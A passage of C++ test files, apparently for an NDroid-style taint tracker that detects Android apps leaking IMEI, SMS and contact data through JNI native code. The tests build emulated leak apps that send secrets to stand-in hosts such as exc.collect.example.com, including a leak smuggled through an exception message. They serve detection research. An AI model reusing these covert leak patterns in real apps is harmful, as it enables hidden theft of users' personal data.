  a.mov(R(5), R(0));  // message cstr (tainted via the TrustCall hook)
  a.mov(R(0), R(4));
  a.mov_imm32(R(1), exc_name);
  a.call(device.jni.fn("FindClass"));
  a.mov(R(1), R(0));
  a.mov(R(0), R(4));
  a.mov(R(2), R(5));
  a.call(device.jni.fn("ThrowNew"));
  a.pop({R(4), R(5), PC});
  lib.install();

  Method* thrower = dvm.define_native(app, "thrower", "VL",
                                      kAccPublic | kAccStatic, fn_thrower);
  Method* src = device.framework.telephony->find_method("getDeviceId");
  Method* sink = device.framework.network->find_method("send");

  // main: s = getDeviceId(); thrower(s);
  //       exc = <pending>; msg = exc.message; send(host, msg)
  const dvm::Field* msg_field = exc_cls->find_instance_field("message");
  CodeBuilder cb;
  cb.invoke(src, {})
      .move_result(0)
      .invoke(thrower, {0})
      .move_exception(1)
      .iget(2, 1, msg_field->index)
      .const_string(3, "exc.collect.example.com")
      .invoke(sink, {3, 2})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 4, cb.take());
  return ExceptionApp{entry};
}

TEST(ExceptionCarrier, TaintFlowsThroughThrowNew) {
  Device device;
  NDroid nd(device);
  const ExceptionApp app = build_exception_carrier(device);
  device.dvm.call(*app.entry, {});

  // The IMEI left through the exception message.
  EXPECT_EQ(device.kernel.network().bytes_sent_to("exc.collect.example.com"),
            "354958031234567");
  // NDroid's ThrowNew hook tainted the message string; the Java sink fired.
  ASSERT_FALSE(device.framework.leaks().empty());
  EXPECT_EQ(device.framework.leaks()[0].taint, kTaintImei);
  EXPECT_TRUE(nd.log().contains("ThrowNew Begin"));
  EXPECT_TRUE(nd.log().contains("to exception message"));
}

TEST(ExceptionCarrier, MissedByTaintDroidAlone) {
  Device device;
  const ExceptionApp app = build_exception_carrier(device);
  device.dvm.call(*app.entry, {});
  EXPECT_FALSE(device.kernel.network()
                   .bytes_sent_to("exc.collect.example.com")
                   .empty());
  EXPECT_TRUE(device.framework.leaks().empty());
}

TEST(NestedJni, ArgumentArrayOnStackCarriesTaint) {
  // Stacked JNI arguments (position >= 4) must be tainted via the
  // SourcePolicy stack_args_taints path and be recoverable by iref.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lstk/App;");

  apps::NativeLibBuilder lib(device, "libstk.so");
  auto& a = lib.a();
  // int f(JNIEnv*, jclass, int, int, jstring s):
  //   s is JNI position 4 (stacked); GetStringUTFChars(s); return strlen.
  const GuestAddr fn = lib.fn();
  a.push({R(4), LR});
  a.ldr(R(1), SP, 8);  // stacked arg (entry [sp], +8 for the two pushes)
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetStringUTFChars"));
  a.call(device.libc.fn("strlen"));
  a.pop({R(4), PC});
  lib.install();

  Method* f = dvm.define_native(app, "f", "IIIL",
                                kAccPublic | kAccStatic, fn);
  Method* src = device.framework.contacts->find_method("queryContacts");
  CodeBuilder cb;
  cb.const_imm(0, 1)
      .const_imm(1, 2)
      .invoke(src, {})
      .move_result(2)
      .invoke(f, {0, 1, 2})
      .move_result(3)
      .return_value(3);
  Method* entry = dvm.define_method(app, "main", "I",
                                    kAccPublic | kAccStatic, 4, cb.take());
  const dvm::Slot r = dvm.call(*entry, {});
  EXPECT_EQ(r.value, 19u);  // strlen("1|Vincent|cx@gg.com")
  // strlen's model taints the result from the (tainted) buffer bytes.
  EXPECT_EQ(r.taint & kTaintContacts, kTaintContacts);
}

}  // namespace
}  // namespace ndroid::core
