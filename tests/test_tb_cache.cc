// Translation-block cache: invalidation (self-modifying code, explicit
// flush, helper registration), engine equivalence (TB vs. the seed
// interpretive path, including the fused handlers), the Thumb decode-cache
// key, and the taint-liveness fast path (skip while clean, resume the first
// instruction after taint appears, counters exposed via core/report).
#include <gtest/gtest.h>

#include "apps/cfbench.h"
#include "arm/assembler.h"
#include "arm/cpu.h"
#include "core/ndroid.h"
#include "core/report.h"

namespace ndroid {
namespace {

using arm::Assembler;
using arm::Cond;
using arm::Cpu;
using arm::Label;
using arm::LR;
using arm::PC;
using arm::R;

class TbCacheFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kCode = 0x10000;

  TbCacheFixture() : cpu_(mem_, map_) {
    // RWX so the self-modifying-code tests can store into code pages.
    map_.add("code", kCode, 0x4000, mem::kRWX);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    cpu_.set_initial_sp(0x80000);
  }

  u32 run(Assembler& a, const std::vector<u32>& args = {}) {
    mem_.write_bytes(kCode, a.finish());
    return cpu_.call_function(kCode, args);
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  Cpu cpu_;
};

TEST_F(TbCacheFixture, CachesBlocksAndReportsHits) {
  Assembler a(kCode);
  Label loop, done;
  a.mov_imm(R(1), 0);
  a.bind(loop);
  a.cmp_imm(R(0), 0);
  a.b(done, Cond::kEQ);
  a.add_imm(R(1), R(1), 3);
  a.sub_imm(R(0), R(0), 1);
  a.b(loop);
  a.bind(done);
  a.mov(R(0), R(1));
  a.ret();
  EXPECT_EQ(run(a, {100}), 300u);

  const core::PerfCounters perf = core::collect_perf(cpu_);
  EXPECT_GT(perf.tb_translations, 0u);
  EXPECT_GT(perf.tb_hits, 0u);  // the loop re-enters its cached blocks
  EXPECT_GT(perf.tb_hit_rate(), 0.5);
  EXPECT_GT(perf.decode_lookups, 0u);
}

TEST_F(TbCacheFixture, FlushBlocksForcesRetranslationAndCounts) {
  Assembler a(kCode);
  a.mov_imm(R(0), 5);
  a.ret();
  EXPECT_EQ(run(a, {}), 5u);
  const u64 before = core::collect_perf(cpu_).tb_translations;

  cpu_.flush_blocks();
  EXPECT_EQ(cpu_.call_function(kCode), 5u);

  const core::PerfCounters perf = core::collect_perf(cpu_);
  EXPECT_GT(perf.tb_flushes, 0u);
  EXPECT_GT(perf.tb_translations, before);  // re-translated after the flush
}

TEST_F(TbCacheFixture, SelfModifyingStoreInvalidatesCachedBlock) {
  // mov r0, #1; ret — executed once so the block is cached, then the guest
  // (here: the host test, via the same write-watched address space API)
  // rewrites the mov to mov r0, #2. The write watch must kill the block.
  Assembler a(kCode);
  a.mov_imm(R(0), 1);
  a.ret();
  EXPECT_EQ(run(a, {}), 1u);

  Assembler patched(kCode);
  patched.mov_imm(R(0), 2);
  patched.ret();
  mem_.write_bytes(kCode, patched.finish());

  EXPECT_EQ(cpu_.call_function(kCode), 2u);
  EXPECT_GT(core::collect_perf(cpu_).tb_invalidated, 0u);
}

TEST_F(TbCacheFixture, BlockRewritingItselfStopsReplayingStaleCode) {
  // The block stores over its own *upcoming* instruction: after the store,
  // the executor must abandon the cached remainder and re-translate, so the
  // patched instruction (mov r0, #9 instead of mov r0, #7) executes.
  Assembler probe(kCode);
  probe.mov_imm(R(0), 9);
  const std::vector<u8> patch = probe.finish();
  const u32 patch_word = static_cast<u32>(patch[0]) |
                         (static_cast<u32>(patch[1]) << 8) |
                         (static_cast<u32>(patch[2]) << 16) |
                         (static_cast<u32>(patch[3]) << 24);

  Assembler a(kCode);
  a.mov_imm32(R(2), patch_word);  // two insns (movw/movt), offsets 0..7
  a.mov_imm32(R(3), kCode + 24);  // address of the mov r0, #7 below
  a.str(R(2), R(3), 0);           // offset 16: overwrite it
  a.nop();
  a.mov_imm(R(0), 7);             // kCode + 24
  a.ret();
  // First run already executes the patched instruction: the store happens
  // before the stale cached copy could replay.
  EXPECT_EQ(run(a, {}), 9u);
  // And the re-entry takes the re-translated (patched) block as well.
  EXPECT_EQ(cpu_.call_function(kCode), 9u);
  EXPECT_GT(core::collect_perf(cpu_).tb_invalidated, 0u);
}

TEST_F(TbCacheFixture, WriteTlbPrimedBeforeCodeInsertStillTrapsSmc) {
  // A guest store primes the write TLB for a page *before* any code is
  // cached there. When a block from that page is later inserted, the watch
  // bit arms late — the TB cache's watch-armed notifier must drop the
  // primed entry, or the rewriting store below would bypass the write
  // watch and the stale block would keep executing.
  const GuestAddr fn = kCode + 0x1000;

  Assembler prime(kCode);
  prime.mov_imm32(R(3), fn + 0x800);  // same page as fn, plain data slot
  prime.mov_imm(R(2), 0x55);
  prime.str(R(2), R(3), 0);  // fused store: fills the write TLB for fn's page
  prime.mov(R(0), R(2));
  prime.ret();
  EXPECT_EQ(run(prime, {}), 0x55u);

  Assembler f(fn);
  f.mov_imm(R(0), 1);
  f.ret();
  mem_.write_bytes(fn, f.finish());
  EXPECT_EQ(cpu_.call_function(fn), 1u);  // caches the block, arms the page

  Assembler probe(fn);
  probe.mov_imm(R(0), 2);
  const std::vector<u8> patch = probe.finish();
  const u32 patch_word = static_cast<u32>(patch[0]) |
                         (static_cast<u32>(patch[1]) << 8) |
                         (static_cast<u32>(patch[2]) << 16) |
                         (static_cast<u32>(patch[3]) << 24);

  Assembler rewrite(kCode + 0x100);
  rewrite.mov_imm32(R(2), patch_word);
  rewrite.mov_imm32(R(3), fn);
  rewrite.str(R(2), R(3), 0);  // must slow-path: fn's page is watched now
  rewrite.ret();
  mem_.write_bytes(kCode + 0x100, rewrite.finish());
  cpu_.call_function(kCode + 0x100);

  EXPECT_EQ(cpu_.call_function(fn), 2u);  // stale block was invalidated
  EXPECT_GT(core::collect_perf(cpu_).tb_invalidated, 0u);
}

TEST_F(TbCacheFixture, RegisterHelperInvalidatesCoveredBlock) {
  Assembler a(kCode);
  a.mov_imm(R(0), 3);
  a.ret();
  EXPECT_EQ(run(a, {}), 3u);

  // Shadow the cached block's first instruction with a helper.
  cpu_.register_helper(kCode, [](Cpu& c) { c.state().regs[0] = 42; });
  EXPECT_EQ(cpu_.call_function(kCode), 42u);
}

TEST_F(TbCacheFixture, InterpretiveAblationMatchesTbEngine) {
  // One program, both engines, bit-identical outputs — covers the fused
  // handlers (add/sub/cmp/mov/flag shapes) against the general executor.
  auto program = [](Assembler& a) {
    Label loop, done, skip;
    a.mov_imm(R(1), 0);
    a.mov_imm32(R(2), 0x12345678);
    a.bind(loop);
    a.cmp_imm(R(0), 0);
    a.b(done, Cond::kEQ);
    a.add(R(1), R(1), R(0));
    a.eor(R(1), R(1), R(2));
    a.sub_imm(R(2), R(2), 7);
    a.add(R(3), R(1), R(2), /*s=*/true);  // fused flag-setting add
    a.b(skip, Cond::kVS);
    a.sub(R(3), R(3), R(1), /*s=*/true);  // fused flag-setting sub
    a.bind(skip);
    a.orr(R(1), R(1), R(3));
    a.sub_imm(R(0), R(0), 1);
    a.b(loop);
    a.bind(done);
    a.mov(R(0), R(1));
    a.ret();
  };

  Assembler a(kCode);
  program(a);
  const u32 with_tb = run(a, {37});

  mem::AddressSpace mem2;
  mem::MemoryMap map2;
  Cpu interp(mem2, map2);
  map2.add("code", kCode, 0x4000, mem::kRWX);
  map2.add("[stack]", 0x70000, 0x10000, mem::kRW);
  interp.set_initial_sp(0x80000);
  interp.set_use_tb_cache(false);
  Assembler b(kCode);
  program(b);
  mem2.write_bytes(kCode, b.finish());
  const u32 with_interp = interp.call_function(kCode, {37});

  EXPECT_EQ(with_tb, with_interp);
  EXPECT_EQ(core::collect_perf(interp).tb_lookups, 0u);  // engine really off
}

TEST_F(TbCacheFixture, ThumbDecodeKeyIgnoresFollowingHalfword) {
  // The same 16-bit Thumb encoding placed before *different* successor
  // halfwords must share one decode-cache entry (the key is the halfword
  // alone, not the halfword pair).
  const u16 movs_r0_1 = 0x2001;  // movs r0, #1
  const u16 movs_r1_2 = 0x2102;  // movs r1, #2
  const u16 movs_r2_3 = 0x2203;  // movs r2, #3
  mem_.write16(kCode, movs_r0_1);
  mem_.write16(kCode + 2, movs_r1_2);
  mem_.write16(kCode + 0x100, movs_r0_1);  // same insn, different successor
  mem_.write16(kCode + 0x102, movs_r2_3);

  cpu_.state().thumb = true;
  cpu_.state().set_pc(kCode);
  cpu_.step();
  const u64 hits_before = cpu_.decode_hits();
  cpu_.state().set_pc(kCode + 0x100);
  cpu_.step();
  EXPECT_EQ(cpu_.state().regs[0], 1u);
  EXPECT_GT(cpu_.decode_hits(), hits_before);
}

// --- Taint-liveness fast path (NDroid attached) ---------------------------

TEST(TbCacheLiveness, FastPathSkipsCleanBlocksAndExposesCounters) {
  android::Device device("tb-test");
  apps::CfBenchApp bench(device);
  core::NDroid nd(device);
  const auto* w = bench.find("Native MIPS");
  ASSERT_NE(w, nullptr);

  bench.run(*w, 50);
  const core::PerfCounters perf = core::collect_perf(device.cpu);
  // Nothing is tainted: the gate skipped every in-scope pure-ALU block.
  EXPECT_GT(perf.fastpath_blocks, 0u);
  EXPECT_GT(perf.fastpath_insns, 0u);
  EXPECT_EQ(nd.tracer().instructions_traced(), 0u);
  // Acceptance counters all flow through core/report.
  EXPECT_GT(perf.tb_hits, 0u);
  EXPECT_GT(perf.tb_hit_rate(), 0.0);
  EXPECT_GT(perf.tb_flushes, 0u);  // NDroid's gate installation flushed
}

TEST(TbCacheLiveness, PropagationResumesFirstInstructionAfterTaint) {
  android::Device device("tb-test");
  apps::CfBenchApp bench(device);
  core::NDroid nd(device);
  const auto* w = bench.find("Native MIPS");
  ASSERT_NE(w, nullptr);

  // Warm the cache fully clean: every block is memoised as "skip".
  bench.run(*w, 50);
  ASSERT_EQ(nd.tracer().instructions_traced(), 0u);

  // Introduce register taint (r4 is never written by the loop, so liveness
  // stays hot). The liveness epoch bump must void every memoised skip: from
  // the very next executed instruction on, the tracer runs again.
  nd.taint_engine().set_reg(4, 0x2);
  const u64 retired_before = device.cpu.instructions_retired();
  bench.run(*w, 50);
  const u64 retired_delta =
      device.cpu.instructions_retired() - retired_before;
  // Every in-scope instruction of the tainted run was traced; the workload
  // body dominates the run, so the traced count is close to the retired
  // count (JNI/bridge code outside the app lib accounts for the rest).
  EXPECT_GT(nd.tracer().instructions_traced(), retired_delta / 2);

  // Clearing taint re-arms the fast path without any explicit flush.
  const u64 traced_after = nd.tracer().instructions_traced();
  const u64 fast_before = core::collect_perf(device.cpu).fastpath_insns;
  nd.taint_engine().clear_regs();
  bench.run(*w, 50);
  EXPECT_EQ(nd.tracer().instructions_traced(), traced_after);
  EXPECT_GT(core::collect_perf(device.cpu).fastpath_insns, fast_before);
}

TEST(TbCacheLiveness, TaintedResultMatchesInterpretiveEngine) {
  // Propagation through the TB engine (fused handlers + per-block hook
  // resolution) must match the seed interpretive engine exactly.
  auto run_once = [](bool use_tb) {
    android::Device device("tb-eq");
    apps::CfBenchApp bench(device);
    device.cpu.set_use_tb_cache(use_tb);
    core::NDroid nd(device);
    nd.taint_engine().set_reg(4, 0x2);
    const auto* w = bench.find("Native MIPS");
    const u32 checksum = bench.run(*w, 25);
    return std::pair<u32, u64>(checksum, nd.tracer().instructions_traced());
  };
  const auto tb = run_once(true);
  const auto interp = run_once(false);
  EXPECT_EQ(tb.first, interp.first);
  EXPECT_EQ(tb.second, interp.second);
}

}  // namespace
}  // namespace ndroid
