// End-to-end tests of NDroid against the Table I leak scenarios: the
// paper's central claim is that TaintDroid alone detects only case 1, while
// NDroid (working with TaintDroid) detects all five.
#include <gtest/gtest.h>

#include "apps/leak_cases.h"
#include "apps/real_apps.h"
#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;
using apps::LeakScenario;

struct Detection {
  bool taintdroid = false;  // flagged at a Java-context sink
  bool ndroid_native = false;  // flagged at a native-context sink by NDroid
  bool evidence = false;       // the secret genuinely left the device
};

Detection run_scenario(LeakScenario (*builder)(Device&), bool with_ndroid,
                       const std::string& secret_substring) {
  Device device("com.scenario.app");
  std::unique_ptr<NDroid> nd;
  if (with_ndroid) nd = std::make_unique<NDroid>(device);
  const LeakScenario scenario = builder(device);
  device.dvm.call(*scenario.entry, {});

  Detection det;
  det.taintdroid = !device.framework.leaks().empty();
  det.ndroid_native = with_ndroid && !nd->leaks().empty();

  std::string sent;
  for (const auto& p : device.kernel.network().packets()) {
    sent += p.payload_str();
  }
  for (const auto& f : device.kernel.vfs().list()) {
    sent += device.kernel.vfs().content_str(f);
  }
  det.evidence = sent.find(secret_substring) != std::string::npos;
  return det;
}

// --- The Table I detection matrix -----------------------------------------

TEST(TableOne, Case1DetectedByBoth) {
  const auto without = run_scenario(apps::build_case1, false, "354958031234567");
  EXPECT_TRUE(without.evidence);
  EXPECT_TRUE(without.taintdroid);  // JNI return-value policy suffices

  const auto with = run_scenario(apps::build_case1, true, "354958031234567");
  EXPECT_TRUE(with.taintdroid);
}

TEST(TableOne, Case1PrimeMissedByTaintDroidCaughtByNDroid) {
  const auto without =
      run_scenario(apps::build_case1_prime, false, "Vincent");
  EXPECT_TRUE(without.evidence);      // the contacts really leaked
  EXPECT_FALSE(without.taintdroid);   // ...but TaintDroid saw nothing

  const auto with = run_scenario(apps::build_case1_prime, true, "Vincent");
  EXPECT_TRUE(with.evidence);
  EXPECT_TRUE(with.taintdroid);  // NDroid re-tainted the returned String
}

TEST(TableOne, Case2MissedByTaintDroidCaughtByNDroid) {
  const auto without = run_scenario(apps::build_case2, false, "cx@gg.com");
  EXPECT_TRUE(without.evidence);
  EXPECT_FALSE(without.taintdroid);

  const auto with = run_scenario(apps::build_case2, true, "cx@gg.com");
  EXPECT_TRUE(with.evidence);
  EXPECT_TRUE(with.ndroid_native);  // fprintf sink fired
}

TEST(TableOne, Case3MissedByTaintDroidCaughtByNDroid) {
  const auto without =
      run_scenario(apps::build_case3, false, "354958031234567");
  EXPECT_TRUE(without.evidence);
  EXPECT_FALSE(without.taintdroid);

  const auto with = run_scenario(apps::build_case3, true, "354958031234567");
  EXPECT_TRUE(with.evidence);
  EXPECT_TRUE(with.taintdroid);  // frame taints restored at dvmInterpret
}

TEST(TableOne, Case4MissedByTaintDroidCaughtByNDroid) {
  const auto without =
      run_scenario(apps::build_case4, false, "354958031234567");
  EXPECT_TRUE(without.evidence);
  EXPECT_FALSE(without.taintdroid);

  const auto with = run_scenario(apps::build_case4, true, "354958031234567");
  EXPECT_TRUE(with.evidence);
  EXPECT_TRUE(with.ndroid_native);  // send() sink fired
}

// --- Real-app case studies --------------------------------------------------

TEST(RealApps, QQPhoneBookFig6) {
  Device device("com.tencent.qqphonebook");
  NDroid nd(device);
  const LeakScenario app = apps::build_qq_phonebook(device);
  device.dvm.call(*app.entry, {});

  // The login URL containing SMS+contacts data reached sync.3g.qq.com.
  const std::string sent =
      device.kernel.network().bytes_sent_to("sync.3g.qq.com");
  EXPECT_NE(sent.find("http://sync.3g.qq.com/xpimlogin?sid="),
            std::string::npos);
  EXPECT_NE(sent.find("Vincent"), std::string::npos);

  // Detected via the Java sink after NDroid tainted the new String object.
  ASSERT_FALSE(device.framework.leaks().empty());
  EXPECT_EQ(device.framework.leaks()[0].taint, kTaintSms | kTaintContacts);

  // The trace log reproduces the Fig. 6 structure.
  EXPECT_TRUE(nd.log().contains("name: makeLoginRequestPackageMd5"));
  EXPECT_TRUE(nd.log().contains("shorty: IILLLLLLLLII"));
  EXPECT_TRUE(nd.log().contains("class: Lcom/tencent/tccsync/LoginUtil;"));
  EXPECT_TRUE(nd.log().contains("NewStringUTF Begin"));
  EXPECT_TRUE(nd.log().contains("http://sync.3g.qq.com/xpimlogin?sid="));
  EXPECT_TRUE(nd.log().contains("add taint 514 to new string object"));
  EXPECT_TRUE(nd.log().contains("NewStringUTF End"));
}

TEST(RealApps, QQPhoneBookMissedWithoutNDroid) {
  Device device("com.tencent.qqphonebook");
  const LeakScenario app = apps::build_qq_phonebook(device);
  device.dvm.call(*app.entry, {});
  EXPECT_FALSE(
      device.kernel.network().bytes_sent_to("sync.3g.qq.com").empty());
  EXPECT_TRUE(device.framework.leaks().empty());
}

TEST(RealApps, EPhoneFig7) {
  Device device("com.vnet.ephone");
  NDroid nd(device);
  const LeakScenario app = apps::build_ephone(device);
  device.dvm.call(*app.entry, {});

  const std::string sent =
      device.kernel.network().bytes_sent_to("softphone.comwave.net");
  EXPECT_NE(sent.find("REGISTER sip:softphone.comwave.net"),
            std::string::npos);
  EXPECT_NE(sent.find("Vincent"), std::string::npos);

  ASSERT_FALSE(nd.leaks().empty());
  EXPECT_EQ(nd.leaks()[0].sink, "sendto");
  EXPECT_EQ(nd.leaks()[0].destination, "softphone.comwave.net");
  EXPECT_EQ(nd.leaks()[0].taint, kTaintContacts);  // 0x2, as in Fig. 7

  EXPECT_TRUE(nd.log().contains("name: callregister"));
  EXPECT_TRUE(nd.log().contains("shorty: ILLLLLLLII"));
  EXPECT_TRUE(nd.log().contains("TrustCallHandler[GetStringUTFChars]"));
}

// --- Engine-level behaviours -------------------------------------------------

TEST(Engines, SourcePolicyLifecycle) {
  Device device;
  NDroid nd(device);
  const LeakScenario app = apps::build_case2(device);
  device.dvm.call(*app.entry, {});
  EXPECT_GE(nd.dvm_hooks().source_policies_created, 1u);
  EXPECT_GE(nd.dvm_hooks().source_policies_applied, 1u);
  // Fig. 8 log structure.
  EXPECT_TRUE(nd.log().contains("name: recordContact"));
  EXPECT_TRUE(nd.log().contains("shorty: ZLLL"));
  EXPECT_TRUE(nd.log().contains("Find a source function"));
  EXPECT_TRUE(nd.log().contains("SinkHandler[fprintf]"));
  EXPECT_TRUE(nd.log().contains("TrustCallHandler[fopen]"));
  EXPECT_TRUE(nd.log().contains("Open '/sdcard/CONTACTS'"));
  EXPECT_TRUE(nd.log().contains("write: Vincent"));
}

TEST(Engines, MultilevelChainFiresT1ToT6) {
  Device device;
  NDroid nd(device);
  const LeakScenario app = apps::build_case3(device);
  device.dvm.call(*app.entry, {});
  for (int i = 0; i < 6; ++i) {
    EXPECT_GE(nd.dvm_hooks().chain_events[i], 1u) << "T" << (i + 1);
  }
  EXPECT_GE(nd.dvm_hooks().jni_exit_restores, 1u);
  // Fig. 9 log structure.
  EXPECT_TRUE(nd.log().contains("Method Name: nativeCallback"));
  EXPECT_TRUE(nd.log().contains("Method Shorty: VL"));
  EXPECT_TRUE(nd.log().contains("add taint to new method frame"));
}

TEST(Engines, TracerCountsThirdPartyInstructionsOnly) {
  Device device;
  NDroid nd(device);
  const LeakScenario app = apps::build_case1(device);
  device.dvm.call(*app.entry, {});
  // Only the two-instruction native method is third-party code here.
  EXPECT_GE(nd.tracer().instructions_traced(), 1u);
  EXPECT_LE(nd.tracer().instructions_traced(), 16u);
}

TEST(Engines, HandlerCacheHitsOnHotLoops) {
  Device device;
  NDroid nd(device);
  const LeakScenario app = apps::build_case1_prime(device);
  device.dvm.call(*app.entry, {});
  EXPECT_GT(nd.tracer().cache_hits(), 0u);
}

TEST(Engines, ModelsVsInstructionTracingEquivalence) {
  // Property: taints propagated through libc's strcpy must be identical
  // whether the function is modeled (Table VI) or traced instruction by
  // instruction (ablation scope kThirdPartyAndLibc).
  for (const bool models : {true, false}) {
    Device device;
    NDroidConfig cfg;
    cfg.syslib_models = models;
    if (!models) cfg.scope = NDroidConfig::Scope::kThirdPartyAndLibc;
    NDroid nd(device, cfg);
    const LeakScenario app = apps::build_case1_prime(device);
    device.dvm.call(*app.entry, {});
    EXPECT_FALSE(device.framework.leaks().empty())
        << "models=" << models;
  }
}

TEST(Engines, DroidScopeModeDetectsNothingNewButTracksEverything) {
  Device device;
  NDroid nd(device, NDroidConfig::droidscope_mode());
  const LeakScenario app = apps::build_case2(device);
  device.dvm.call(*app.entry, {});
  // Whole-system tracing covers the app lib plus libdvm/libc guest stubs.
  EXPECT_GT(nd.tracer().instructions_traced(), 40u);
  // No JNI semantics, no native sink checks -> no new flows (§II-C).
  EXPECT_TRUE(nd.leaks().empty());
  EXPECT_TRUE(device.framework.leaks().empty());
}

TEST(Engines, NoFalsePositiveOnCleanApp) {
  Device device;
  NDroid nd(device);
  // An app that sends only untainted data through the same code paths.
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lclean/App;");
  dvm::Method* sink = device.framework.network->find_method("send");
  dvm::CodeBuilder cb;
  cb.const_string(0, "ads.example.com")
      .const_string(1, "nothing sensitive")
      .invoke(sink, {0, 1})
      .return_void();
  dvm::Method* entry = dvm.define_method(
      app, "main", "V", dvm::kAccPublic | dvm::kAccStatic, 2, cb.take());
  dvm.call(*entry, {});
  EXPECT_TRUE(nd.leaks().empty());
  EXPECT_TRUE(device.framework.leaks().empty());
}

TEST(Engines, DetectionSurvivesGcBetweenJniCalls) {
  // The case-1' flow with a moving (semi-space) GC between the two JNI calls: the
  // string objects move (direct pointers change) but detection must still
  // work — NDroid keys Java-object shadows by indirect reference and the
  // native-side buffer taints are unaffected (paper §II-A/§V-B rationale).
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;

  // Rebuild case 1' piecewise so we can interleave a GC.
  const LeakScenario scenario = apps::build_case1_prime(device);
  dvm::ClassObject* app = dvm.find_class("Lcase1p/App;");
  dvm::Method* store = app->find_method("storeSecret");
  dvm::Method* get = app->find_method("getPostUrl");
  dvm::Method* src = device.framework.contacts->find_method("queryContacts");
  dvm::Method* sink = device.framework.network->find_method("send");
  (void)scenario;

  const dvm::Slot contacts = dvm.call(*src, {});
  dvm.call(*store, {contacts});

  // Force movement: allocate filler, then compact.
  for (int i = 0; i < 16; ++i) dvm.new_string("filler");
  dvm.run_gc();

  const dvm::Slot url = dvm.call(*get, {});
  dvm::Object* host = dvm.new_string("gc.collect.example.com");
  dvm.call(*sink, {dvm::Slot{host->addr(), 0}, url});

  ASSERT_FALSE(device.framework.leaks().empty());
  EXPECT_EQ(device.framework.leaks()[0].taint, kTaintContacts);
}

TEST(Engines, DirectDvmCallMethodBypassesChainGate) {
  // A direct branch to dvmCallMethodV that does NOT come through a
  // Call*Method stub never satisfies T2, so with multilevel hooking the
  // frame-restore machinery must stay quiet (no pending taints collected).
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* cls = dvm.define_class("Ldirect/Cb;");
  dvm::CodeBuilder cb;
  cb.return_void();
  dvm::Method* m = dvm.define_method(cls, "cb", "V",
                                     dvm::kAccPublic | dvm::kAccStatic, 1,
                                     cb.take());
  const GuestAddr result = dvm.data_alloc(8);
  device.cpu.call_function(dvm.call_method_stub('V'),
                           {m->guest_addr, 0, result, 0});
  EXPECT_EQ(nd.dvm_hooks().chain_events[1], 0u);  // T2 never matched
  EXPECT_EQ(nd.dvm_hooks().jni_exit_restores, 0u);
}

TEST(Engines, GcSurvivalOfObjectShadow) {
  // Taint keyed by indirect reference must survive a GC that moves the
  // object (the reason NDroid uses irefs as keys, §V-B).
  Device device;
  NDroid nd(device);
  dvm::Object* s = device.dvm.new_string("secret-payload");
  const u32 iref = device.dvm.irt().add(s);
  nd.taint_engine().add_object_shadow(iref, kTaintImei);
  device.dvm.new_string("fill");
  device.dvm.run_gc();
  EXPECT_EQ(nd.taint_engine().object_shadow(iref), kTaintImei);
  EXPECT_EQ(device.dvm.irt().decode(iref), s);
}

}  // namespace
}  // namespace ndroid::core
