// Parameterized sweep over the full Call*Method family of Table II: all 27
// combinations of {virtual, nonvirtual, static} x {Void, Int, Object} x
// {plain, V, A} must exist, route to the right dvmCallMethod variant, and
// deliver the call with correct receiver/return semantics.
#include <gtest/gtest.h>

#include "android/device.h"
#include "jni/jnienv.h"

namespace ndroid::jni {
namespace {

using android::Device;
using Param = std::tuple<const char*, const char*, const char*>;

class CallMethodSweep : public ::testing::TestWithParam<Param> {};

TEST_P(CallMethodSweep, RoutesAndDelivers) {
  const auto [kind, type, form] = GetParam();
  const std::string name = std::string("Call") + kind + type + "Method" + form;
  const bool is_static = kind[0] == 'S';

  Device device;
  auto& dvm = device.dvm;
  dvm::ClassObject* cls = dvm.define_class("Lsweep/Target;");
  cls->add_instance_field("dummy", 'I');

  // The callee records its invocation in a static field and returns a value
  // matching the Type under test.
  cls->add_static_field("calls", 'I');
  dvm::Method* callee;
  const u32 flags =
      dvm::kAccPublic | (is_static ? dvm::kAccStatic : 0);
  {
    dvm::CodeBuilder cb;
    const u16 scratch = 0;
    cb.sget(scratch, cls, 0)
        .add_imm(scratch, scratch, 1)
        .sput(scratch, cls, 0);
    if (type[0] == 'V') {
      cb.return_void();
      callee = dvm.define_method(cls, "m", "V", flags, 4, cb.take());
    } else if (type[0] == 'I') {
      cb.const_imm(1, 42).return_value(1);
      callee = dvm.define_method(cls, "m", "I", flags, 4, cb.take());
    } else {
      cb.const_string(1, "ret").return_value(1);
      callee = dvm.define_method(cls, "m", "L", flags, 4, cb.take());
    }
  }

  // Routing expectation per Table II: plain and V -> dvmCallMethodV,
  // A -> dvmCallMethodA.
  const GuestAddr expect_target =
      dvm.call_method_stub(form[0] == 'A' ? 'A' : 'V');
  const GuestAddr other_target =
      dvm.call_method_stub(form[0] == 'A' ? 'V' : 'A');
  int hits_expected = 0, hits_other = 0;
  device.cpu.add_branch_hook(
      [&](arm::Cpu&, GuestAddr, GuestAddr to) {
        if (to == expect_target) ++hits_expected;
        if (to == other_target) ++hits_other;
      });

  u32 receiver = 0;
  if (is_static) {
    receiver = dvm.class_mirror(cls);
  } else {
    dvm::Object* obj = dvm.heap().new_instance(cls);
    receiver = dvm.irt().add(obj);
  }
  const u32 result = device.cpu.call_function(
      device.jni.fn(name),
      {device.dvm.jnienv_addr(), receiver, callee->guest_addr, 0});

  EXPECT_EQ(hits_expected, 1) << name;
  EXPECT_EQ(hits_other, 0) << name;
  EXPECT_EQ(cls->statics()[0].value, 1u) << name;  // callee ran once
  if (type[0] == 'I') {
    EXPECT_EQ(result, 42u) << name;
  } else if (type[0] == 'O') {
    ASSERT_TRUE(dvm.irt().is_valid(result)) << name;
    EXPECT_EQ(dvm.irt().decode(result)->utf(), "ret") << name;
  }
}

INSTANTIATE_TEST_SUITE_P(
    Table2, CallMethodSweep,
    ::testing::Combine(::testing::Values("", "Nonvirtual", "Static"),
                       ::testing::Values("Void", "Int", "Object"),
                       ::testing::Values("", "V", "A")));

}  // namespace
}  // namespace ndroid::jni
